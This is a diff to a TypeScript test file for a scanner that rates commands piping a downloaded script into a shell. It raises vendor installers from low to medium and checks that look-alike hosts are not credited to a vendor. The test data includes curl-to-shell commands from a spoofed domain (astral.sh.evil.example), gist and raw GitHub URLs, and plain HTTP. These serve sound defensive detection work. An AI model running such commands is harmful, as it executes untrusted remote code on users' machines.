@@ -44,17 +44,19 @@ describe('a download piped into an interpreter given its program', () => {
 describe("a vendor's own installer over HTTPS from its domain (rules/deploy/installers.yaml)", () => {
   const rated = (cmd: string) => pipedScripts(cmd).map((p) => p.severity);
 
-  it('is low, naming the vendor', () => {
+  // The image-build rule rates it low (ci-exposure.test.ts); a CI job or a hook, which holds more, keeps it as any HTTPS script.
+  it('names the vendor', () => {
     for (const cmd of ['curl -LsSf https://astral.sh/uv/install.sh | sh', 'curl -fsSL https://claude.ai/install.sh | bash', 'curl -sS https://bootstrap.pypa.io/get-pip.py | python3.12', "curl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y", 'curl -fsSL https://deb.nodesource.com/setup_20.x | bash -']) {
-      expect(rated(cmd), cmd).toEqual(['low']);
+      expect(rated(cmd), cmd).toEqual(['medium']);
       expect(pipedScripts(cmd)[0]!.vendor, cmd).toBeTruthy();
     }
   });
 
-  it('is not low over plain HTTP, from another host (a look-alike, a subdomain, a port, user content) or with credentials in the URL', () => {
+  it("is not a vendor's over plain HTTP, from another host (a look-alike, a subdomain, a port, user content) or with credentials in the URL", () => {
     expect(rated('curl -fsSL http://astral.sh/uv/install.sh | sh')).toEqual(['high']);
     for (const cmd of ['curl -fsSL https://astral.sh.evil.example/uv/install.sh | sh', 'curl -fsSL https://cdn.astral.sh/install.sh | sh', 'curl -fsSL https://astral.sh:8443/uv/install.sh | sh', 'curl -fsSL https://raw.githubusercontent.com/someone/tools/main/install.sh | bash', 'curl -fsSL https://gist.githubusercontent.com/x/abc/raw/i.sh | sh']) {
       expect(rated(cmd), cmd).toEqual(['medium']);
+      expect(pipedScripts(cmd)[0]!.vendor, cmd).toBeUndefined();
     }
   });
 });
